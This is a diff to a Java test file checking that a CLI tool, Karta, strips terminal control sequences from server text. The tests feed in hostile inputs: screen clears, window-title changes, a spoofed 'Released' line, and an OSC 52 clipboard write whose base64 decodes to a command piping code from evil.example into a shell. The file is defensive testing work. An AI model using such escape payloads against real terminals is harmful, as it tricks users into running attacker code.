@@ -15,8 +15,9 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 
 /**
- * Whatever the server sends (a build log line, an error, a key name) is shown with its control
- * characters escaped: it cannot clear the screen, set the window title, ring the bell, move the
+ * Whatever the server sends (a build log line, an error, a key name) is shown with its terminal
+ * control sequences and control characters removed: it cannot clear the screen, set the window
+ * title, write the clipboard, ring the bell, move the
  * cursor back over a line, or print a line of its own that looks like Karta's. Checked against a
  * real server (whose log escapes too) and against a scripted one that sends raw control bytes.
  */
@@ -24,6 +25,8 @@ class TerminalEscapesTest {
     /** As JSON string content: clear screen, OSC title ended by BEL, CR, and a fake release line. */
     private static final String HOSTILE_JSON =
             "x\\u001b[2J\\u001b]0;owned\\u0007\\r\\nReleased v999 (fake)\\nremote: Released v999\\u009b31m";
+    /** What is left of it on a terminal: the sequences removed whole, the line breaks now spaces. */
+    private static final String CLEAN = "x Released v999 (fake) remote: Released v999";
 
     @RegisterExtension
     static final CliServer cli = new CliServer();
@@ -65,19 +68,37 @@ class TerminalEscapesTest {
     }
 
     @Test
-    void publish_shows_a_hostile_karta_toml_escaped() throws IOException {
+    void karta_logs_shows_an_apps_build_output_without_its_clipboard_write_or_cursor_moves() throws IOException {
+        // OSC 52 would put a command on the reader's clipboard; CSI 2J clears the screen; CSI 1A
+        // moves up a line to overwrite one; the colours are an ordinary build tool's.
+        String hostile = "pwn\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007ed\\u001b[2J\\u001b[1A"
+                + "\\u001b[31mred\\u001b[0m\\u009b2K";
+        Path dir = app("clipboard-app", "entry_point = \"CLAUDE.md\"\n\"" + hostile + "\" = 1\n");
+        assertThat(real().workingDir(dir).run("publish").exitCode()).isZero();
+
+        Run.Result logs = real().run("logs", "clipboard-app");
+        Run.Result json = real().run("logs", "clipboard-app", "--json");
+
+        assertThat(logs.exitCode()).as(logs.toString()).isZero();
+        assertNoControlCharacters(logs);
+        assertThat(logs.stdout()).contains("unknown key 'pwnedred' ignored").doesNotContain("52;c;", "[2J", "[31m");
+        assertNoControlCharacters(json);
+        assertThat(json.stdout()).contains("pwnedred").doesNotContain("52;c;");
+    }
+
+    @Test
+    void publish_shows_a_hostile_karta_toml_cleaned() throws IOException {
         Path dir = app("hostile-shop", "entry_point = \"CLAUDE.md\"\n\"" + HOSTILE_JSON + "\" = 1\n");
 
         Run.Result publish = real().workingDir(dir).run("publish");
 
         assertThat(publish.exitCode()).as(publish.toString()).isZero();
         assertNoControlCharacters(publish);
-        assertThat(publish.stdout()).contains("x\\e[2J\\e]0;owned\\x07\\r\\nReleased v999 (fake)\\n")
-                .contains("Released v1 — ");
+        assertThat(publish.stdout()).contains("'" + CLEAN + "'").contains("Released v1 — ");
     }
 
     @Test
-    void a_build_log_with_raw_control_characters_is_shown_escaped_one_entry_per_line() throws IOException {
+    void a_build_log_with_raw_control_characters_is_shown_cleaned_one_entry_per_line() throws IOException {
         fake.on("GET", "/agent_projects/shop", (exchange, request) -> FakeKarta.json(exchange, 200,
                 "{\"name\":\"shop\",\"url\":\"" + fake.url() + "/v1/projects/shop\"}"));
         fake.on("POST", "/agent_projects/shop/releases", (exchange, request) ->
@@ -92,14 +113,12 @@ class TerminalEscapesTest {
 
         assertThat(publish.exitCode()).isEqualTo(1);
         assertNoControlCharacters(publish);
-        assertThat(publish.stdout()).isEqualTo("  x\\e[2J\\e]0;owned\\x07\\r\\nReleased v999 (fake)"
-                + "\\nremote: Released v999\\u009b31m\n");
-        assertThat(publish.stderr()).endsWith("karta: build failed: x\\e[2J\\e]0;owned\\x07\\r\\nReleased v999 (fake)"
-                + "\\nremote: Released v999\\u009b31m\n");
+        assertThat(publish.stdout()).isEqualTo("  " + CLEAN + "\n");
+        assertThat(publish.stderr()).endsWith("karta: build failed: " + CLEAN + "\n");
     }
 
     @Test
-    void keys_list_shows_a_key_name_with_control_characters_escaped_on_its_row() {
+    void keys_list_shows_a_key_name_with_control_characters_removed_on_its_row() {
         fake.on("GET", "/api_keys", (exchange, request) -> FakeKarta.json(exchange, 200,
                 "{\"api_keys\":[{\"id\":\"key_1\",\"name\":\"" + HOSTILE_JSON + "\",\"scopes\":[\"read\"],"
                         + "\"prefix\":\"kt_live_abcdef\",\"created_at\":\"2026-06-01T10:00:00Z\"}]}"));
@@ -109,7 +128,7 @@ class TerminalEscapesTest {
         assertThat(list.exitCode()).as(list.toString()).isZero();
         assertNoControlCharacters(list);
         assertThat(list.stdout().lines()).hasSize(2);
-        assertThat(list.stdout()).contains("key_1  x\\e[2J\\e]0;owned\\x07\\r\\nReleased v999 (fake)");
+        assertThat(list.stdout()).contains("key_1  " + CLEAN);
     }
 
     @Test
@@ -127,7 +146,7 @@ class TerminalEscapesTest {
     }
 
     @Test
-    void an_error_message_from_the_server_is_shown_escaped() {
+    void an_error_message_from_the_server_is_shown_cleaned() {
         fake.on("GET", "/api_keys", (exchange, request) -> FakeKarta.json(exchange, 409,
                 "{\"error\":\"conflict\",\"message\":\"" + HOSTILE_JSON + "\"}"));
 
@@ -135,7 +154,6 @@ class TerminalEscapesTest {
 
         assertThat(list.exitCode()).isEqualTo(1);
         assertNoControlCharacters(list);
-        assertThat(list.stderr()).isEqualTo("karta: x\\e[2J\\e]0;owned\\x07\\r\\nReleased v999 (fake)"
-                + "\\nremote: Released v999\\u009b31m\n");
+        assertThat(list.stderr()).isEqualTo("karta: " + CLEAN + "\n");
     }
 }
